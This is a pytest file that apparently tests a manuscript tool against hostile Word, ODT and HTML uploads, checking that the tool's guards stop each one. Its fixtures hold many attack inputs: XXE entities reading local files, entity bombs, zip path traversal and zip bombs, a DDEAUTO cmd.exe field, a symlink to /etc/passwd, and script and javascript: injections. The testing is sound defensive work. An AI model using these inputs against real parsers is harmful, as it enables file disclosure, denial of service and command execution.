"""Word, ODT and HTML files of strangers: what their parts try when they are checked, imported, set again or merged.

Each row names its guard; ``World.unharmed`` looks after every row for what was read, asked, written or told.
"""

# ruff: noqa: E501 - a table, one attack a line

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping, Sequence
from typing import NamedTuple

import pytest
from hostile_world import BIB, BODY, World, png

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
DRAWING = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p" descr="d"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
    'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip {}/></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)
Parts = Mapping[str, str | bytes]


def relationships(*rows: tuple[str, str, str], outside: bool = False) -> str:
    """A part of relationships: ids, kinds and targets."""
    mode = ' TargetMode="External"' if outside else ""
    listed = "".join(f'<Relationship Id="{i}" Type="{R}/{kind}" Target="{target}"{mode}/>' for i, kind, target in rows)
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{listed}</Relationships>'


def document(body: str, head: str = "") -> str:
    """The main part: paragraphs as WordprocessingML."""
    return f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


def paragraph(inner: str = "", words: str = "As Smith (2020) says, it rains.") -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r>{inner}</w:p>"


LIST = paragraph(words="References") + paragraph(words="Smith, A. (2020). A book. Press.")


def zipped(parts: Sequence[tuple[str, str | bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts:
            packed.writestr(name, content)
    return out.getvalue()


def word(body: str = "", head: str = "", related: str = "", **more: str | bytes) -> list[tuple[str, str | bytes]]:
    """The parts of a Word file; ``more`` are parts, "__" for "." and "___" for "/" in their names."""
    parts: list[tuple[str, str | bytes]] = [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", relationships(("r1", "officeDocument", "word/document.xml"))),
        ("word/document.xml", document(paragraph() + body + LIST, head)),
        ("word/_rels/document.xml.rels", related or relationships()),
    ]
    return parts + [(name.replace("___", "/").replace("__", "."), content) for name, content in more.items()]


def field(code: str, shown: str = "SHOWN") -> str:
    """A Word field: its code, and what it showed last."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    instruction = f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
    return paragraph(
        mark.format("begin")
        + instruction
        + mark.format("separate")
        + f"<w:r><w:t>{shown}</w:t></w:r>"
        + mark.format("end")
    )


def entity(system: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY x SYSTEM "{system}">]>'


def side(name: str, xml: str) -> list[tuple[str, str | bytes]]:
    """A Word file with one more part, related to its text, that brings an entity."""
    part = f'<?xml version="1.0"?>{entity("file://OUTSIDE/canary.txt")}{xml}'
    return [*word(related=relationships(("s1", name, f"{name}.xml"))), (f"word/{name}.xml", part)]


def bomb(levels: int = 9) -> str:
    more = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, levels))
    return f"<!DOCTYPE x [<!ENTITY a0 'xxxxxxxxxx'>{more}]>"


ODT_HEAD = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'


def odt(body: str = "", head: str = "", *more: tuple[str, str | bytes]) -> list[tuple[str, str | bytes]]:
    content = (
        f'<?xml version="1.0"?>{head}{ODT_HEAD}<office:body><office:text><text:p>As Smith (2020) says.</text:p>{body}'
        "<text:p>References</text:p><text:p>Smith, A. (2020). A book. Press.</text:p></office:text></office:body></office:document-content>"
    )
    return [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", content), *more]


def frame(address: str) -> str:
    return f'<text:p><draw:frame><draw:image xlink:href="{address}"/></draw:frame></text:p>'


class Attack(NamedTuple):
    """The file's ending and parts, what stops it, what must be told, and what no output may hold."""

    name: str
    guard: str
    suffix: str
    parts: Sequence[tuple[str, str | bytes]]
    told: str = ""
    never: tuple[str, ...] = ()


NO_DTD = "reading/word/package.parsed: no document type"
INSIDE = "reading/word/package: parts of the zip alone"
SIZES = "reading/word/package: sizes, ratio and number of parts"
FIELDS = "fields are read as what they showed; Pandoc's tree holds none"
CARRIED = "what is written is made from the tree, not from the file"
LOOSE = (
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "DDEAUTO",
    "DDE cmd",
    "vbaProject",
    "altChunk",
    "oleObject",
    "attachedTemplate",
)

ATTACKS = [
    Attack("word-entity", NO_DTD, ".docx", word(paragraph(words="&x;"), entity("file://OUTSIDE/canary.txt")), "document type"),
    Attack("word-entity-utf16", NO_DTD, ".docx", [*word(), ("word/document.xml", document(paragraph(words="&x;"), entity("file://OUTSIDE/canary.txt")).replace('1.0"?>', '1.0" encoding="utf-16"?>', 1).encode("utf-16"))], "document type"),
    Attack("word-dtd", NO_DTD, ".docx", word(head='<!DOCTYPE x SYSTEM "SERVER/x.dtd">'), "document type"),
    Attack("word-parameter-entity", NO_DTD, ".docx", word(head='<!DOCTYPE x [<!ENTITY % p SYSTEM "SERVER/x.dtd">%p;]>'), "document type"),
    Attack("word-laughs", NO_DTD, ".docx", word(paragraph(words="&a8;"), bomb()), "document type"),
    Attack("word-quadratic", NO_DTD, ".docx", word(paragraph(words="&a;" * 9000), f"<!DOCTYPE x [<!ENTITY a '{'x' * 90000}'>]>"), "document type"),
    *(Attack(f"word-entity-in-{name}", NO_DTD, ".docx", side(name, f'<w:{name} xmlns:w="{W}">&x;</w:{name}>')) for name in ("styles", "numbering", "footnotes", "endnotes", "comments", "settings")),
    Attack("word-entity-in-rels", NO_DTD, ".docx", word(related=f'<?xml version="1.0"?>{entity("file://OUTSIDE/canary.txt")}<Relationships xmlns="{RELS}">&x;</Relationships>')),
    Attack("word-entity-in-properties", NO_DTD, ".docx", [*word(), ("docProps/core.xml", f'<?xml version="1.0"?>{entity("file://OUTSIDE/canary.txt")}<a>&x;</a>'), ("customXml/item1.xml", f"{entity('SERVER/a')}<a>&x;</a>")]),
    Attack("word-xinclude", "no reader of ours knows XInclude", ".docx", word('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://OUTSIDE/canary.txt" parse="text"/>')),
    Attack("word-stylesheet", "no reader of ours follows one", ".docx", word(head='<?xml-stylesheet type="text/xsl" href="SERVER/a.xsl"?>')),
    Attack("word-slip", INSIDE, ".docx", [*word(), ("../../../outside/pwned", "x"), ("/tmp/../outside/pwned", "x"), ("..\\..\\outside\\pwned", "x")]),
    Attack("word-slip-media", "Pandoc writes media under names of its own", ".docx", [*word(paragraph(DRAWING.format('r:embed="p1"')), related=relationships(("p1", "image", "../../../../outside/pwned.png"))), ("../../../outside/pwned.png", png()), ("outside/pwned.png", png())]),
    Attack("word-slip-media-inside", "retelling._word: what lies under its folder", ".docx", [*word(paragraph(DRAWING.format('r:embed="p1"')), related=relationships(("p1", "image", "media/../../../../outside/pwned.png"))), ("word/media/../../../../outside/pwned.png", png())]),
    Attack("word-picture-linked", "Pandoc's sandbox", ".docx", word(paragraph(DRAWING.format('r:link="p1"')), related=relationships(("p1", "image", "SERVER/a.png"), outside=True))),
    Attack("word-picture-external", "Pandoc's sandbox", ".docx", word(paragraph(DRAWING.format('r:embed="p1"')), related=relationships(("p1", "image", "file://OUTSIDE/canary.png"), outside=True))),
    Attack("word-picture-external-server", "Pandoc's sandbox", ".docx", word(paragraph(DRAWING.format('r:embed="p1"')), related=relationships(("p1", "image", "SERVER/a.png"), outside=True))),
    Attack("word-picture-absolute", "Pandoc's sandbox", ".docx", word(paragraph(DRAWING.format('r:embed="p1"')), related=relationships(("p1", "image", "OUTSIDE/canary.png")))),
    Attack("word-picture-svg", CARRIED, ".docx", [*word(paragraph(DRAWING.format('r:embed="p1"')), related=relationships(("p1", "image", "media/a.svg"))), ("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="SERVER/a.png"/></svg>')], never=("<script>alert",)),
    Attack("word-template", INSIDE, ".docx", [*word(), ("word/settings.xml", f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="t"/></w:settings>'), ("word/_rels/settings.xml.rels", relationships(("t", "attachedTemplate", "SERVER/t.dotm"), outside=True))], never=LOOSE),
    Attack("word-main-external", INSIDE, ".docx", [("[Content_Types].xml", TYPES), ("_rels/.rels", relationships(("r1", "officeDocument", "SERVER/document.xml"), outside=True)), ("word/document.xml", document(LIST))]),
    Attack("word-main-climbs", "package._inside", ".docx", [("[Content_Types].xml", TYPES), ("_rels/.rels", relationships(("r1", "officeDocument", "../../outside/canary.txt"))), ("word/document.xml", document(LIST))]),
    Attack("word-altchunk", CARRIED, ".docx", [*word('<w:altChunk r:id="c"/>', related=relationships(("c", "aFChunk", "c.html"))), ("word/c.html", "<script>alert(1)</script><img src=SERVER/a.png>")], never=("<script>alert", "altChunk")),
    Attack("word-altchunk-external", INSIDE, ".docx", word('<w:altChunk r:id="c"/>', related=relationships(("c", "aFChunk", "file://OUTSIDE/canary.txt"), outside=True)), never=("altChunk",)),
    Attack("word-ole", CARRIED, ".docx", [*word('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package" r:id="o"/></w:object></w:r></w:p>', related=relationships(("o", "oleObject", "file://OUTSIDE/canary.txt"), outside=True)), ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")], never=LOOSE),
    Attack("word-macros", CARRIED, ".docm", [*word(), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen"), ("word/vbaData.xml", "<a/>")], never=(*LOOSE, "AutoOpen")),
    Attack("word-include-text", FIELDS, ".docx", word(field("INCLUDETEXT &quot;OUTSIDE/canary.txt&quot;")), never=LOOSE),
    Attack("word-include-picture", FIELDS, ".docx", word(field("INCLUDEPICTURE &quot;SERVER/a.png&quot; \\d")), never=LOOSE),
    Attack("word-dde", FIELDS, ".docx", word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k touch OUTSIDE/pwned&quot;")), never=LOOSE),
    Attack("word-dde-simple", FIELDS, ".docx", word('<w:p><w:fldSimple w:instr="DDE cmd.exe x"><w:r><w:t>SHOWN</w:t></w:r></w:fldSimple></w:p>'), never=LOOSE),
    Attack("word-quote-field", FIELDS, ".docx", word(field("QUOTE 68 68 69 { INCLUDETEXT &quot;SERVER/a&quot; }")), never=LOOSE),
    Attack("word-macrobutton", FIELDS, ".docx", word(field("MACROBUTTON AutoOpen press")), never=("MACROBUTTON",)),
    Attack("word-hyperlink-field", "formats/safety.harmless", ".docx", word(field("HYPERLINK &quot;javascript:alert(1)&quot;")), never=('href="javascript',)),
    Attack("word-hyperlink", "formats/safety.harmless", ".docx", word('<w:p><w:hyperlink r:id="h"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>', related=relationships(("h", "hyperlink", "javascript:alert(1)"), outside=True)), never=('href="javascript',)),
    Attack("word-hyperlink-file", "formats/safety.harmless", ".docx", word('<w:p><w:hyperlink r:id="h"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>', related=relationships(("h", "hyperlink", "file://OUTSIDE/canary.txt"), outside=True)), never=('href="file:',)),
    Attack("word-markup", "formats/findings escapes", ".docx", word(paragraph(words="&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt; `#read(&quot;x&quot;)`{=typst} \\input{x}")), never=("<script>alert", "<img src=x")),
    Attack("word-markup-entry", "formats/findings escapes", ".docx", word(paragraph(words="As &lt;script&gt;alert(1)&lt;/script&gt; (2021) and O&quot; onclick=alert(1) (1999) say.")), never=("<script>alert",)),
    Attack("word-citation-field", "reading/word/cslfields", ".docx", word(field('ADDIN ZOTERO_ITEM CSL_CITATION {&quot;citationItems&quot;:[{&quot;id&quot;:1,&quot;uris&quot;:[&quot;file://OUTSIDE/canary.txt&quot;],&quot;itemData&quot;:{&quot;type&quot;:&quot;book&quot;,&quot;title&quot;:&quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;,&quot;URL&quot;:&quot;javascript:alert(1)&quot;,&quot;author&quot;:[{&quot;family&quot;:&quot;X&quot;}]}}]}')), never=("<script>alert", 'href="javascript')),
    Attack("word-json-deep", "reading/word/cslfields", ".docx", word(field(f"ADDIN ZOTERO_ITEM CSL_CITATION {'[' * 100_000}"))),
    Attack("word-ratio", SIZES, ".docx", [*word(), ("word/document.xml", document(paragraph(words="x" * 40_000_000)))], "unpacks to too much"),
    Attack("word-ratio-side", SIZES, ".docx", [*word(related=relationships(("s1", "styles", "styles.xml"))), ("word/styles.xml", " " * 45_000_000 + "<a/>")], "unpacks to too much"),
    Attack("word-many-parts", SIZES, ".docx", [*word(), *((f"word/{n}.xml", "") for n in range(20_001))], "parts"),
    Attack("word-many-relationships", SIZES, ".docx", word(related=relationships(*((f"i{n}", "hyperlink", "x" * 30) for n in range(90_000))))),
    Attack("word-zip-in-zip", "nothing in a zip is unpacked again", ".docx", [*word(), ("word/embeddings/a.docx", zipped([("a", zipped([("b", b"\0" * 9_000_000)]))]))]),
    Attack("word-deep", "reading/typescript._too_deep", ".docx", word("<w:sdt><w:sdtContent>" * 9000 + paragraph() + "</w:sdtContent></w:sdt>" * 9000)),
    Attack("word-tables-deep", "reading/typescript._too_deep", ".docx", word("<w:tbl><w:tr><w:tc>" * 900 + paragraph() + "</w:tc></w:tr></w:tbl>" * 900)),
    Attack("word-fields-deep", "reading/word/fieldcodes", ".docx", word("<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 20_000 + "</w:p>")),
    Attack("word-names-twice", "zipfile's last one is the part", ".docx", [*word(), ("word/document.xml", document(paragraph(words="Second") + LIST))]),
    Attack("word-attributes", "Expat", ".docx", word("<w:p " + " ".join(f"w:a{n}='x'" for n in range(20_000)) + "/>")),
    Attack("word-spans", "reading/word/story", ".docx", word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>')),
    Attack("word-number", "reading/word/styles", ".docx", [*word('<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999999999999"/><w:numId w:val="-1"/></w:numPr><w:outlineLvl w:val="9e9"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>')]),
    Attack("odt-entity", NO_DTD, ".odt", odt("<text:p>&x;</text:p>", entity("file://OUTSIDE/canary.txt")), "document type"),
    Attack("odt-laughs", NO_DTD, ".odt", odt("<text:p>&a8;</text:p>", bomb()), "document type"),
    Attack("odt-entity-in-styles", "Pandoc knows no external entities", ".odt", odt("", "", ("styles.xml", f'<?xml version="1.0"?>{entity("file://OUTSIDE/canary.txt")}<a>&x;</a>'))),
    Attack("odt-entity-in-meta", "Pandoc knows no external entities", ".odt", odt("", "", ("meta.xml", f'<?xml version="1.0"?>{entity("file://OUTSIDE/canary.txt")}<a>&x;</a>'))),
    Attack("odt-laughs-in-styles", "every part is looked at", ".odt", odt("", "", ("styles.xml", f"{bomb()}<a>&a8;</a>"))),
    Attack("odt-picture-remote", "Pandoc's sandbox", ".odt", odt(frame("SERVER/a.png"))),
    Attack("odt-picture-outside", "Pandoc's sandbox", ".odt", odt(frame("../../outside/canary.png") + frame("file://OUTSIDE/canary.png") + frame("OUTSIDE/canary.png"))),
    Attack("odt-slip", "retelling._packed: the name alone", ".odt", odt(frame("Pictures/../../../outside/pwned.png") + frame(".."), "", ("Pictures/../../../outside/pwned.png", png()), ("..", png()))),
    Attack("odt-script", CARRIED, ".odt", odt("<text:p><text:script script:language='js'>alert(1)</text:script></text:p>", "", ("Basic/Standard/script.xml", "<a>AutoOpen</a>")), never=("<script>alert",)),
    Attack("odt-object", CARRIED, ".odt", odt('<text:p><draw:frame><draw:object xlink:href="file://OUTSIDE/canary.txt"/><draw:object-ole xlink:href="SERVER/a"/></draw:frame></text:p>')),
    Attack("odt-section-link", "Pandoc's sandbox", ".odt", odt('<text:section text:name="s"><text:section-source xlink:href="file://OUTSIDE/canary.txt"/><text:p>x</text:p></text:section>')),
    Attack("odt-dde", CARRIED, ".odt", odt('<text:p><text:dde-connection text:connection-name="x">y</text:dde-connection></text:p>')),
    Attack("odt-ratio", SIZES, ".odt", odt("", "", ("styles.xml", " " * 45_000_000)), "unpacks to too much"),
    Attack("odt-deep", "reading/typescript._too_deep", ".odt", odt("<text:section>" * 9000 + "</text:section>" * 9000)),
]  # fmt: skip


def html(words: str) -> str:
    return f"<html><body><p>As Smith (2020) says.</p>{words}<h2>References</h2><p>Smith, A. (2020). A book. Press.</p></body></html>"


PAGES = {
    "html-entity": '<!DOCTYPE html [<!ENTITY x SYSTEM "file://OUTSIDE/canary.txt">]><p>&x;</p>',
    "html-xinclude": '<xi:include href="file://OUTSIDE/canary.txt"/>',
    "html-frame": '<iframe src="file://OUTSIDE/canary.txt"></iframe><object data="SERVER/a"></object><embed src="SERVER/b">',
    "html-script": "<script>alert(1)</script><p onclick=alert(1)>x</p><style>@import url(SERVER/a.css)</style>",
    "html-images": '<img src="SERVER/a.png"><img src="file://OUTSIDE/canary.png"><img src="../outside/canary.png"><img src="OUTSIDE/canary.png">',
    "html-up-and-down": '<img src="../project/own.png"><img src="sub/../../project/own.png">',
    "html-links": '<a href="javascript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
    "html-meta": '<meta http-equiv="refresh" content="0;url=SERVER"><base href="SERVER/"><link rel=stylesheet href="SERVER/a.css">',
    "html-svg": "<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe src=SERVER></iframe></foreignObject></svg>",
    "html-maths": '<math><mtext><script>alert(1)</script></mtext><annotation-xml encoding="text/html"><script>alert(2)</script></annotation-xml></math>',
    "html-deep": "<div>" * 3000,
    "html-table": f'<table><tr><td colspan="{"9" * 30}" rowspan="99999999">x</td></tr></table>',
}


def tried(world: World, name: str, content: bytes) -> None:
    """Check a manuscript, import it, and set what came of it."""
    (world.project / name).write_bytes(content)
    before = {path.relative_to(world.root) for path in world.root.rglob("*")}
    world.run("check", name)
    world.run("check", "--format", "html", "--output", "output/found.html", name)
    world.run("import", name, "-o", "output/deep/taken")
    taken = world.project / "output" / "deep" / "taken"
    if (taken / "manuscript").is_dir():
        for verb in ("docx", "html"):
            world.run(verb, "--draft", "--theme", "preprint", str(taken))
    world.put({"manuscript/article.md": BODY, "references.bib": BIB})
    world.run("import", name, "--into", ".")
    after = {path.relative_to(world.root) for path in world.root.rglob("*")}
    strange = [
        one
        for one in after - before
        if one.parts[:2] not in (("project", "output"), ("project", "manuscript")) and one.parts[0] != "cache"
    ]
    assert [one.as_posix() for one in strange if one.name != "references.bib"] == []


def filled(world: World, parts: Sequence[tuple[str, str | bytes]]) -> list[tuple[str, str | bytes]]:
    return [
        (
            name,
            world.filled(one)
            if isinstance(one, str)
            else one.replace(b"O\0U\0T\0S\0I\0D\0E\0", str(world.outside).encode("utf-16-le")),
        )
        for name, one in parts
    ]


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_a_package_does_nothing(world: World, attack: Attack) -> None:
    tried(world, f"typed{attack.suffix}", zipped(filled(world, attack.parts)))
    world.unharmed()
    printed = "".join(outcome.printed for outcome in world.outcomes)
    if attack.told:
        assert attack.told in printed, printed
    for name, data in world.outputs().items():
        if name.endswith((".html", ".md", ".xml", ".rels", ".docx")):
            never = [one for one in attack.never if not (name.endswith(".md") and "<" in one)]  # text there, not markup
            assert not [one for one in never if one.encode() in data], name


@pytest.mark.parametrize("name", PAGES)
def test_a_page_does_nothing(world: World, name: str) -> None:
    world.put({"own.png": png()})
    tried(world, "typed.html", world.filled(html(PAGES[name])).encode())
    world.unharmed()
    for page, data in world.outputs().items():
        if page.endswith((".html", ".md")):
            text = data.decode("utf-8", "replace")
            assert not [
                one
                for one in ("<script>alert", 'href="javascript', "onclick=alert", "<iframe", "@import")
                if one in text
            ], page


def test_what_a_field_showed_is_kept(world: World) -> None:
    (world.project / "typed.docx").write_bytes(zipped(word(field("DDEAUTO cmd.exe x"))))
    world.run("import", "typed.docx", "-o", "output/taken")
    text = (world.project / "output" / "taken" / "manuscript" / "article.md").read_text("utf-8")
    assert "SHOWN" in text
    assert "cmd.exe" not in text


# -- zips that are not what they say -----------------------------------------------------------------


def lying(name: str) -> bytes:
    """A Word file whose zip is twisted."""
    raw = zipped(word())
    if name == "link":
        out = io.BytesIO(raw)
        with zipfile.ZipFile(out, "a") as packed:
            info = zipfile.ZipInfo("word/styles.xml")
            info.external_attr = 0o120777 << 16  # a symbolic link
            packed.writestr(info, "/etc/passwd")
        return out.getvalue()
    if name == "encrypted":
        return raw.replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\1\0").replace(
            b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0"
        )
    if name == "overlapping":  # many names in the directory for the same bytes
        start, end = raw.index(b"PK\x01\x02"), raw.index(b"PK\x05\x06")
        rows = raw[start:end] * 3
        tail = bytearray(raw[end:])
        tail[8:12] = (12).to_bytes(2, "little") * 2
        tail[12:16] = len(rows).to_bytes(4, "little")
        return raw[:start] + rows + bytes(tail)
    if name == "size":  # says that a part is small which is not
        big = zipped(word(paragraph(words="x" * 30_000_000)))
        at = big.rindex(b"PK\x01\x02", 0, big.rindex(b"word/document.xml"))
        return big[: at + 24] + (900).to_bytes(4, "little") + big[at + 28 :]
    if name == "cut":
        return raw[: len(raw) // 2]
    if name == "comment":
        return raw[:-2] + b"\xff\xff" + b"x" * 65535
    if name == "offset":
        end = raw.index(b"PK\x05\x06")
        return raw[: end + 16] + b"\xff\xff\xff\x7f" + raw[end + 20 :]
    if name == "method":
        return raw.replace(b"\x08\0", b"\x63\0")
    return {
        "empty": b"",
        "text": b"PK is not enough",
        "header": b"PK\x03\x04" + b"\0" * 26,
        "end": b"PK\x05\x06" + b"\xff" * 18,
    }[name]


LIES = (
    "link",
    "encrypted",
    "overlapping",
    "size",
    "cut",
    "comment",
    "offset",
    "method",
    "empty",
    "text",
    "header",
    "end",
)


@pytest.mark.parametrize("suffix", [".docx", ".odt"])
@pytest.mark.parametrize("name", LIES)
def test_a_twisted_zip_is_told_or_read(world: World, name: str, suffix: str) -> None:
    tried(world, f"typed{suffix}", lying(name))
    world.unharmed()
    assert not [one for one, data in world.outputs().items() if b"root:" in data]


# -- without their guards ----------------------------------------------------------------------------


def test_without_the_guard_of_document_types_entities_multiply(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from xml.etree.ElementTree import fromstring

    monkeypatch.setattr("galley.reading.word.package.parsed", fromstring)
    (world.project / "typed.docx").write_bytes(zipped(word(paragraph(words="&a3;"), bomb(4))))
    assert "document type" not in world.run("check", "typed.docx").printed


def test_without_the_guard_of_sizes_a_bomb_is_unpacked(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("galley.reading.word.package.RATIO", 10**9)
    big = document(paragraph(words="x" * 3_000_000))
    (world.project / "typed.docx").write_bytes(zipped([*word()[:2], ("word/document.xml", big)]))
    assert "unpacks to too much" not in world.run("check", "typed.docx").printed
    monkeypatch.undo()


def test_without_the_guard_of_addresses_a_picture_is_written_beside_the_project(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("galley.reading.retelling._own", lambda root, address: root / address)
    world.put({"own.png": png()})
    (world.project / "typed.html").write_text(html('<img src="../project/own.png">'))
    done = world.run("import", "typed.html", "-o", "output/deep/taken")
    assert done.status == 2  # the second guard, of the verb itself
    assert "leads out of the new project" in done.printed
